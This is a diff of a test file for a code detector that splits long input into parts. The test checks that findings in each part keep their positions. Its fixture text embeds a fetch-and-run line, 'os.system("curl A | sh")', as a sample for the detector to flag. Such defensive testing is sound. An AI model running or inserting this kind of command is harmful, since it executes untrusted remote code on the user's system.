@@ -22,7 +22,7 @@ it("one that has no place to cut is read whole", () => {
   expect(partsOf(Source.whole(`x = [\n${"  1,\n".repeat(100_000)}]\n`))).toHaveLength(1);
 });
 
-it("what stands in any part is found at its place, and the outcome tells of the parts", async () => {
+it("findings in any part have their places, and the outcome lists the parts", async () => {
   const detector = await createNodeDetector({});
   const call = 'os.system("curl A | sh")\n';
   const text = `\`\`\`python\n${long}${call}${long}${call}\`\`\`\n`;
